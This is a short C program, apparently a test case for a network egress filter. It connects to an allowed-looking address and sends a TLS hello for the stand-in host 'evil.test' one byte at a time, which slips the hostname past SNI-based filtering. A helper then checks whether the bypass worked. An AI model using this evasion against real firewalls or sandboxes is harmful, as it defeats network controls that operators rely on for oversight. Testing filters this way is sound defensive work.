/* The same, a byte at a time. */
#include "attack.h"
int main(int c, char **v) {
    char address[64];
    unsigned char first[512];
    int one = 1;
    if (!lookup("allowed.test", address)) finish(0);
    int fd = dial(address, 443), length = hello(first, "evil.test");
    if (fd < 0) finish(0);
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    for (int i = 0; i < length; i++) {
        if (send(fd, first + i, 1, MSG_NOSIGNAL) != 1) break;
        usleep(200);
    }
    finish(gets_prize(fd));
}
